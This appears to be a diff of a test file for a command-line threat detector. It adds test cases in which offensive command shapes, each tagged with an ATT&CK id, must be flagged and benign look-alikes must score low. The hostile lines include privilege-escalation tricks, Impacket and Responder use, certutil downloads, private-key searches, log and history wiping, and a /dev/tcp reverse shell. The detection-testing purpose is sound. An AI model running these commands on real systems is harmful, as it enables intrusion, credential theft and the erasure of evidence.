@@ -338,3 +338,73 @@ describe('normalisation of format operator and host constants', () => {
     expect(t).toContain('("http://203.0.113.9/a.ps1")');
   });
 });
+
+describe('fifth-round technique shapes (one per shape, each names its ATT&CK id)', () => {
+  it.each([
+    ['sudo user id -1', 'sudo -u#-1 /bin/bash', 'privesc.sudo_uid_wrap', 'T1548.003'],
+    ['vim command spawns a shell', "sudo vim -c ':!/bin/sh'", 'exec.editor_shell', 'T1059.004'],
+    ['second uid-0 passwd entry', 'backdoor:$1$xyz$abcdefgh:0:0:svc:/root:/bin/bash', 'privesc.uid0_entry', 'T1136.001'],
+    ['impacket-style target', 'lookupsid.py corp.local/svc_sql:Winter2024@10.0.0.20', 'tool.impacket_target', 'T1588.002'],
+    ['Responder with an en dash', 'responder \u2013I eth1 -wd', 'tool.offensive_cli_more', 'T1588.002'],
+    ['Metasploit resource script', 'msfconsole -q -r handler.rc', 'tool.offensive_cli_more', 'T1588.002'],
+    ['reflective Rubeus entry point', '[Rubeus.Program]::MainString("triage")', 'tool.offensive_cli_more', 'T1588.002'],
+    ['print-spooler coercion', 'SpoolSample.exe dc02 attacker-host', 'tool.offensive_cli_more', 'T1588.002'],
+    ['PowerView delegation hunt', 'Get-DomainComputer -TrustedToAuth -Properties dnshostname', 'tool.ad_recon_functions', 'T1087.002'],
+    ['PowerUpSQL link crawl', 'Get-SQLServerLinkCrawl -Instance sql01 -Query "exec master..xp_cmdshell \'whoami\'"', 'tool.ad_recon_functions', 'T1087.002'],
+    ['PowerUpSQL imported', 'Import-Module .\\PowerUpSQL.psd1; Get-SQLInstanceLocal', 'tool.offensive_module', 'T1588.002'],
+    ['SharpUp run', 'SharpUp.exe audit > C:\\Temp\\out.txt', 'tool.offensive_module', 'T1588.002'],
+    ['C# script host on a public-folder file', 'csi.exe C:\\Users\\Public\\run.csx', 'lolbin.proxy_user_file_more', 'T1218'],
+    ['Squirrel updater runs a temp file', 'Update.exe --processStart=C:\\Users\\Public\\x.exe', 'lolbin.proxy_user_file_more', 'T1218'],
+    ['wmic format from a public folder', 'wmic os get /format:"C:\\Users\\Public\\t.xsl"', 'lolbin.proxy_user_file_more', 'T1218'],
+    ['msiexec registers a DLL', 'msiexec /z C:\\ProgramData\\u.dll', 'lolbin.msiexec_register', 'T1218.007'],
+    ['app installer from a bare IP', 'start ms-appinstaller://?source=http://198.51.100.4/pkg.msix', 'ingress.url_handlers', 'T1105'],
+    ['certutil -URL to a bare IP', 'certutil.exe -URL http://198.51.100.4/a.bin', 'ingress.url_handlers', 'T1105'],
+    ['remote DCOM object', '$o=[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","10.0.0.9"))', 'exec.dcom_remote', 'T1021.003'],
+    ['private keys under /home', 'grep -rl "BEGIN OPENSSH PRIVATE KEY" /home 2>/dev/null', 'cred.private_key_search', 'T1552.004'],
+    ['history deleted', 'rm -f ~/.bash_history; export HISTFILESIZE=0', 'evasion.history_wipe', 'T1070.003'],
+    ['option-named file for a wildcard', 'touch -- "--reference=/root/.ssh/id_rsa"', 'exec.wildcard_injection', 'T1059.004'],
+    ['unified log erased', 'sudo log erase --all', 'evasion.macos_protection', 'T1562.001'],
+    ['guest SMB access', 'sudo sysadminctl -smbGuestAccess on', 'evasion.macos_protection', 'T1562.001'],
+    ['proxy on a bare IP', 'networksetup -setsecurewebproxy "Wi-Fi" 203.0.113.50 8080', 'c2.macos_proxy_ip', 'T1090'],
+    ['SetFile timestomp', 'SetFile -d "01/02/2020 10:00:00" -m "01/02/2020 10:00:00" payload.app', 'evasion.setfile_timestomp', 'T1070.006'],
+  ])('%s', (_n, text, id, tech) => {
+    const f = technique(text, id);
+    expect(f).toBeDefined();
+    expect(f?.name.startsWith(tech)).toBe(true);
+    expect(['medium', 'high', 'critical']).toContain(f?.severity);
+  });
+
+  it('turning SIP off is low alone and high next to an offensive technique', () => {
+    expect(technique('csrutil disable', 'evasion.macos_sip_off')?.severity).toBe('low');
+    expect(technique('csrutil disable\nsudo log erase --all\nbash -i >& /dev/tcp/10.0.0.5/4444 0>&1', 'evasion.macos_sip_off')?.severity).toBe('high');
+  });
+});
+
+describe('benign counter-cases for the fifth-round shapes stay at low or below', () => {
+  it.each([
+    ['sudo as a named user', 'sudo -u postgres psql -c "select version();"'],
+    ['vim batch edit', "vim -c 'set ff=unix' -c wq notes.txt"],
+    ['root passwd entry', 'root:x:0:0:root:/root:/bin/bash'],
+    ['uid-0 listing', "awk -F: '$3 == 0 {print $1}' /etc/passwd"],
+    ['git clone with a token', 'git clone https://deploy:${TOKEN}@git.example.com/ops/infra.git'],
+    ['AD module domain controllers', 'Get-ADDomainController -Filter * | Select-Object Name, Site'],
+    ['built-in Get-Net cmdlets', 'Get-NetAdapter | Where-Object Status -eq Up | Get-NetIPAddress -AddressFamily IPv4'],
+    ['SID conversion helper', 'ConvertFrom-SID S-1-5-32-544'],
+    ['dotnet app from Program Files', 'dotnet "C:\\Program Files\\ReportTool\\ReportTool.dll" --month 11'],
+    ['msiexec uninstall', 'msiexec /x {11111111-2222-3333-4444-555555555555} /qn'],
+    ['app installer from a named https host', 'start ms-appinstaller:?source=https://apps.example.com/Contoso.appinstaller'],
+    ['local COM automation', '$xl=[activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application"))'],
+    ['key check in a repo', 'grep -c "BEGIN PRIVATE KEY" ./certs/server.key'],
+    ['history size raised', 'export HISTSIZE=10000 HISTFILESIZE=20000'],
+    ['touch with a date', 'touch -d "2024-01-01 00:00" /srv/data/marker'],
+    ['touch copies a time', 'system_or_error "touch --reference=$wal $wal.tmp.gz";'],
+    ['SIP status', 'csrutil status'],
+    ['log show', "log show --last 1h --predicate 'process == \"sshd\"'"],
+    ['corporate proxy', 'networksetup -setwebproxy "Wi-Fi" proxy.corp.example.com 8080'],
+    ['guest account off', 'sudo sysadminctl -guestAccount off'],
+    ['Responder in prose', 'Write-Host "First responder on call: ops"'],
+    ['an ordinary module import', 'Import-Module ActiveDirectory; Import-Module .\\PowerShellGet.psd1'],
+  ])('%s', (_n, text) => {
+    expect(['info', 'low']).toContain(worst(text));
+  });
+});
